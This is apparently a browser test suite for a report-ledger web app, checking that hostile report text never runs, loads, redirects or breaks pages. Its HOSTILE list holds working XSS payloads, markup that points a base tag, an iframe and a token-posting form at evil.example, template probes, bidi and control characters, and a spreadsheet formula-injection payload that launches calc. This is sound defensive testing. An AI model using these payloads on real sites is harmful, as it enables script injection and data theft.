"""Reports that mean harm, in a real browser: nothing of them runs, loads, leaves the page or turns it round."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest

from making import MAKER, at, doc, source
from sayso.contracts import Submission
from sayso.flow.opening import open_ledger
from sayso.record import Assertion, Document, Event, Maker, Mention, Problem, Role, Source, Voice
from sayso.settings import Settings
from workbench.conftest import Looked

pytestmark = pytest.mark.slow
Look = Callable[..., Looked]

HOSTILE = {
    "script": "<script>window.pwned=1;alert(1)</script>",
    "handler": "<img src=x onerror=\"window.pwned=1\"><svg onload='window.pwned=1'>",
    "attribute": "\" autofocus onfocus=\"window.pwned=1\" x='' onmouseover='window.pwned=1",
    "address": "javascript:window.pwned=1//https://evil.example/",
    "markup": "</article></main><base href=//evil.example/><style>*{display:none}</style><iframe src=//evil.example>",
    "form": "<form action=//evil.example><input name=token autofocus><button>Save</button></form>",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} %s $title",
    "comment": "<!-- --!> <![CDATA[ ]]> &lt;script&gt; &#60;script&#62;",
    "direction": "\u202egnp.exe\u2066 \u2067left\u202e right\u2069 \u200f\u202b",
    "controls": "bell\x07 escape\x1b[2J nul\x00 line\u2028para\u2029 bom\ufeff surrogate-like \ufffe",
    "crlf": "one\r\ntwo\rthree\r\n\r\nfour",
    "combining": "Z" + "\u0336\u0300" * 400 + " algo",
    "sheet": '=HYPERLINK("https://evil.example","x") +cmd|\' /C calc\'!A0 @SUM(A1)',
    "polyglot": "jaVasCript:/*-/*`/*'/*\"/**/(/* */oNcliCk=window.pwned=1 )//%0D%0A//</stYle/</titLe/</scRipt/--!>",
}
HUGE = "A" * 60_000 + " " + "word " * 4_000


def hostile_report(words: str) -> tuple[Source, Document, list[Assertion | Mention]]:
    """A report in which the words stand in every field, and a claim whose every part is these words."""
    text = f"{words}\n\nThe guard said: {words}"
    made = doc(
        text, ("headline", words), ("body", f"The guard said: {words}"), title=words, publisher=words, address=words
    )
    part = made.anchor(text.index("The guard"), len(text.rstrip()))
    claim = Assertion(
        evidence=part,
        content=Event(code=words[:50], trigger=at(made, "said"), roles=(Role(name="actor", anchor=part),)),
        chain=(Voice(speaker=part, cue=part),),
    )
    return source(text, media_type="text/plain", address=words), made, [claim, Mention(anchor=part, kind="person")]


def fill(ledger: Path, words: str) -> Document:
    opened = open_ledger(Settings(ledger=str(ledger)), create=True)
    held, made, found = hostile_report(words)
    problem = Problem(address=words, stage="read", doing=words, met=words, todo=words)
    person = Maker(name=words[:50], sort="person")
    bodies = [Submission(held, MAKER), Submission(made, MAKER), Submission(problem, MAKER)]
    opened.append([*bodies, *(Submission(body, person) for body in found)], [made.text.encode("utf-8")])
    opened.close()
    return made


@pytest.mark.parametrize("words", [*HOSTILE.values(), HUGE], ids=[*HOSTILE, "huge"])
def test_nothing_of_it_takes_hold(look: Look, served: str, ledger: Path, words: str) -> None:
    made = fill(ledger, words)
    looked = look(served)
    about = quote(f'"{words[:60]}"')
    sheets = ("/news", "/grid?about=guard", f"/brief?about={about}", "/timeline?loose=true", "/forecasts")
    for path in (
        "/",
        f"/reports/{made.id}",
        f"/reports/{made.id}/changes",
        "/queue",
        "/search?q=guard",
        "/audit",
        *sheets,
    ):
        page = looked.go(path)
        page.wait_for_selector("[data-again]", state="detached")
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.pwned") is None, path
        drawn = "" if path.startswith(("/timeline", "/forecasts")) else ", main svg"
        assert page.locator(f"iframe, base, main script, main style, main img, main form form{drawn}").count() == 0
        assert page.locator(".menu").is_visible(), path
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280, path
        assert page.url.startswith(served)


def test_its_words_are_selected_where_they_stand(look: Look, served: str, ledger: Path) -> None:
    """Line ends of any sort and control characters before the words do not shift what a person selects."""
    made = fill(ledger, HOSTILE["controls"] + HOSTILE["crlf"])
    page = look(served).go(f"/reports/{made.id}")
    page.wait_for_selector(".judge button")
    page.evaluate(
        """() => {
          const passage = [...document.querySelectorAll("[data-at]")].at(-1);
          const walker = document.createTreeWalker(passage, NodeFilter.SHOW_TEXT);
          for (let node = walker.nextNode(); node; node = walker.nextNode()) {
            const i = node.data.indexOf("four");
            if (i >= 0) getSelection().setBaseAndExtent(node, i, node, i + 4);
          }
        }"""
    )
    page.keyboard.press("n")
    page.wait_for_selector("#fix:not([hidden])")
    page.locator('#fix input[data-name="content.trigger"]').fill("four")
    page.click("#fix button.main")
    page.wait_for_selector(".item.on[data-by] .judge button")
    opened = open_ledger(Settings(ledger=str(ledger)))
    added = [e.body for e in opened.entries(record="assertion", document_id=made.id)][-1]
    opened.close()
    assert added.evidence.start == made.text.rindex("four")


def test_a_name_that_means_harm_stays_a_name(look: Look, served: str) -> None:
    page = look(served).go("/")
    page.fill(".person input", "<b onclick=x>\u202eAda")
    page.click(".person button")
    assert page.input_value(".person input") == "<b onclick=x>Ada"
    page.goto(served + "/who?name=" + "%3Cscript%3Ealert(1)%3C/script%3E")
    assert "Nobody of that name is known" in page.inner_text("main")
